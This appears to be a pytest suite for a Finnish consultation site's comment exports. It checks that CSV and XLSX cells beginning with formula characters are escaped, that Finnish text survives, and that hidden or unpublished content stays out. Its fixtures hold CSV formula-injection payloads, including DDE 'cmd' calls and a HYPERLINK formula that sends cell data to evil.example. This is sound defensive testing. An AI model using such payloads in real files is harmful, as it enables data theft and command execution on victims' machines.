"""CSV, XLSX and JSON exports read back: hostile cells neutralized, Finnish characters
intact, hidden comments and unpublished responses absent."""
from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import openpyxl
import pytest

from app.extensions import db
from comments.opendata.exports import neutralize, neutralize_csv
from tests.comments.responses.conftest import answer, publish
from tests.world import HIDDEN_TEXT

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikkaa")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabulaattori=1+1",
    "\r=1+1",
]
FINNISH = "Äänestys öljystä ja Åland – hyvä säätiö"


@pytest.fixture
def hostile_world(world, make_comment, make_user, make_org):
    evil_org = make_org(name="=cmd|' /C calc'!A0", slug="paha")
    evil = make_user(orgs=[evil_org], name="@Pahantekijä")
    for body in HOSTILE:
        make_comment(world.consultation, evil, evil_org, body)
    make_comment(world.consultation, world.users["member"], world.orgs["a"], FINNISH, world.paragraphs[1].anchor)
    return world


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Tavallinen", "Tavallinen"), ("", ""), (" =1", " =1"), (42, 42), (None, None),
])
def test_neutralize(value, expected):
    assert neutralize(value) == expected


def _csv_rows(client, slug, query=""):
    response = client.get(f"/consultations/{slug}/export.csv{query}")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM for Excel
    text = raw.decode("utf-8-sig")
    delimiter = ";" if "sep=" in query else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _assert_no_formula(cells):
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(DANGEROUS), repr(cell)


@pytest.mark.parametrize("query", ["", "?sep=;"])
def test_csv_neutralizes_hostile_cells_and_keeps_finnish(hostile_world, client_as, query):
    rows = _csv_rows(client_as(hostile_world, "anonymous"), hostile_world.slug, query)
    header, body = rows[0], rows[1:]
    assert header[:3] == ["Comment ID", "Paragraph", "Anchor"]
    for row in rows:
        assert len(row) == len(header)
        _assert_no_formula(row)
    texts = [row[header.index("Comment")] for row in body]
    for hostile in HOSTILE:  # the comment service strips leading whitespace (tab, CR)
        assert neutralize(hostile.strip()) in texts
    assert FINNISH in texts
    assert "'=cmd|' /C calc'!A0" in [row[header.index("Organization")] for row in body]
    assert "'@Pahantekijä" in [row[header.index("Author")] for row in body]
    assert HIDDEN_TEXT not in "\n".join(";".join(r) for r in rows)
    assert len(body) == 3 + len(HOSTILE) + 1


# Harmless at the start of the cell, but a spreadsheet that splits on the other separator
# (or on a line break the quotes no longer protect) makes a new cell of what follows it.
HOSTILE_INSIDE = [
    "Kannatamme;=1+1;ja muuta",
    "Kannatamme,=1+1,ja muuta",
    "Hinta;+cmd|' /C calc'!A0",
    "Luvut,-2+3",
    "Osoite;@SUM(1+1)",
    'Lainaus;"=1+1',
    'Lainaus,""@A1',
    "Rivi;yksi\n=1+1",
    "Rivi,kaksi\r\n+1",
    "Tab;\t=1",
]
CSV_FIELD = r'"(?:[^"]|"")*"'


def _split_as(raw: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("query, separator", [("", ","), ("?sep=;", ";")])
def test_csv_cells_stay_inert_whichever_separator_the_spreadsheet_splits_on(
    hostile_world, client_as, make_comment, query, separator
):
    for body in HOSTILE_INSIDE:
        make_comment(hostile_world.consultation, hostile_world.users["member"], hostile_world.orgs["a"], body)
    response = client_as(hostile_world, "anonymous").get(f"/consultations/{hostile_world.slug}/export.csv{query}")
    assert response.status_code == 200
    raw = response.get_data()
    # Every field quoted, every record ended by CRLF.
    text = raw.decode("utf-8-sig")
    record = f"{CSV_FIELD}(?:{re.escape(separator)}{CSV_FIELD})*\r\n"
    assert re.fullmatch(f"(?:{record})+", text), text[:500]
    for delimiter in (",", ";"):
        for row in _split_as(raw, delimiter):
            _assert_no_formula(row)
    # Read with the separator it was written with, the text is all there.
    rows = _split_as(raw, separator)
    texts = [row[rows[0].index("Comment")] for row in rows[1:]]
    for body in HOSTILE_INSIDE:
        assert any(_without_guards(text) == body for text in texts), body


def _without_guards(text: str) -> str:
    """The cell with the neutralizing apostrophes taken out again."""
    return re.sub(r"(^|[,;\r\n])'", r"\1", text)


@pytest.mark.parametrize("value, expected", [
    ("a;=1", "a;'=1"), ("a,-1", "a,'-1"), ("a;+1;@b", "a;'+1;'@b"), ('a;"=1', "a;'\"=1"), ('"=1', "'\"=1"),
    ("x\n@y", "x\n'@y"), ("x\r\n=y", "x\r\n'=y"), ("a;\t=1", "a;'\t=1"), ("=1;=2", "'=1;'=2"),
    ("1,5 %", "1,5 %"), ("a; =1", "a; =1"), ("Tavallinen", "Tavallinen"), (42, 42), (None, None),
])
def test_neutralize_csv(value, expected):
    assert neutralize_csv(value) == expected


def test_xlsx_stores_formula_like_text_as_text(hostile_world, client_as, make_comment):
    for body in HOSTILE_INSIDE:
        make_comment(hostile_world.consultation, hostile_world.users["member"], hostile_world.orgs["a"], body)
    response = client_as(hostile_world, "anonymous").get(f"/consultations/{hostile_world.slug}/export.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        xml = "".join(archive.read(name).decode("utf-8") for name in sheets)
    assert sheets and "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", cell.value
                _assert_no_formula([cell.value])


def test_csv_rejects_unknown_separator(world, client_as):
    assert client_as(world, "anonymous").get(f"/consultations/{world.slug}/export.csv?sep=|").status_code == 400


def test_xlsx_reads_back_with_frozen_header_filter_widths_and_wrapping(hostile_world, client_as):
    client = client_as(hostile_world, "official")
    answer(client, hostile_world, hostile_world.comments[1], "partly", "=Vastaus joka näyttää kaavalta")
    publish(client, hostile_world)
    response = client_as(hostile_world, "anonymous").get(f"/consultations/{hostile_world.slug}/export.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"] == f'attachment; filename="{hostile_world.slug}-comments.xlsx"'
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.active
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == sheet.dimensions
    header = [c.value for c in sheet[1]]
    assert header == ["Comment ID", "Paragraph", "Anchor", "Organization", "Author", "Time (Helsinki)",
                      "Comment", "Decision", "Response"]
    assert sheet.column_dimensions["G"].width == 70
    rows = list(sheet.iter_rows(min_row=2))
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            _assert_no_formula([cell.value])
    comment_col = header.index("Comment")
    assert rows[0][comment_col].alignment.wrap_text
    texts = [row[comment_col].value for row in rows]
    for hostile in HOSTILE:
        assert neutralize(hostile.strip()) in texts
    assert FINNISH in texts
    assert HIDDEN_TEXT not in texts
    by_id = {row[0].value: row for row in rows}
    answered = by_id[hostile_world.comments[1].id]
    assert answered[header.index("Decision")].value == "Partly accepted"
    assert answered[header.index("Response")].value == "'=Vastaus joka näyttää kaavalta"
    assert answered[header.index("Paragraph")].value == hostile_world.paragraphs[1].number
    assert answered[header.index("Anchor")].value == hostile_world.paragraphs[1].anchor
    created = answered[header.index("Time (Helsinki)")].value
    from app.i18n import local_time

    db.session.expire_all()
    expected = local_time(hostile_world.comments[1].created_at).replace(tzinfo=None, microsecond=0)
    assert created == expected


def test_xlsx_strips_characters_xml_cannot_hold(world, client_as, make_comment):
    make_comment(world.consultation, world.users["member"], world.orgs["a"], "Ohjausmerkki\x0b ja \x1f tässä")
    response = client_as(world, "anonymous").get(f"/consultations/{world.slug}/export.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    assert "Ohjausmerkki ja  tässä" in [row[6].value for row in sheet.iter_rows(min_row=2)]


def test_json_export(hostile_world, client_as):
    response = client_as(hostile_world, "anonymous").get(f"/consultations/{hostile_world.slug}/export.json")
    assert response.status_code == 200 and response.mimetype == "application/json"
    data = json.loads(response.get_data())
    assert data["consultation"]["slug"] == hostile_world.slug
    assert data["hidden_by_moderation"] == 1
    texts = [c["text"] for c in data["comments"]]
    assert FINNISH in texts and HOSTILE[0] in texts  # JSON carries the data as written
    assert HIDDEN_TEXT not in response.get_data(as_text=True)
    assert all(c["response"] is None for c in data["comments"])


def test_a_forged_host_does_not_reach_the_cached_json_export(world, client_as, app):
    """The export is cached for every reader; its links are the public address's, so a
    request naming another Host cannot put that host into what the next reader downloads."""
    app.config["PUBLIC_URL"] = "https://kuulo.example.fi"
    url = f"/consultations/{world.slug}/export.json"
    forged = client_as(world, "anonymous").get(url, headers={"Host": "hyokkaaja.example.com"})
    assert forged.status_code == 200
    reader = client_as(world, "anonymous").get(url).get_data(as_text=True)
    for body in (forged.get_data(as_text=True), reader):
        assert "hyokkaaja" not in body
        assert f'"url": "https://kuulo.example.fi/consultations/{world.slug}/"' in body


def test_responses_appear_in_exports_only_once_published(world, client_as):
    client = client_as(world, "official")
    answer(client, world, world.comments[2], "accepted", "Vastine tavoitteisiin.")
    anonymous = client_as(world, "anonymous")
    for suffix in ("csv", "json"):
        assert "Vastine tavoitteisiin." not in anonymous.get(f"/consultations/{world.slug}/export.{suffix}").get_data(as_text=True)
    publish(client, world)
    for suffix in ("csv", "json"):
        assert "Vastine tavoitteisiin." in anonymous.get(f"/consultations/{world.slug}/export.{suffix}").get_data(as_text=True)
    data = anonymous.get(f"/consultations/{world.slug}/export.json").get_json()
    [answered] = [c for c in data["comments"] if c["id"] == world.comments[2].id]
    assert answered["response"]["decision"] == "accepted"


@pytest.mark.parametrize("suffix", ["csv", "xlsx", "json"])
def test_exports_of_unpublished_consultation_are_404_for_everyone(world, client_as, suffix):
    world.consultation.published = False
    db.session.commit()
    for role in ("anonymous", "member", "official_b", "official", "admin"):
        assert client_as(world, role).get(f"/consultations/{world.slug}/export.{suffix}").status_code == 404, role
    assert client_as(world, "anonymous").get(f"/consultations/no-such/export.{suffix}").status_code == 404
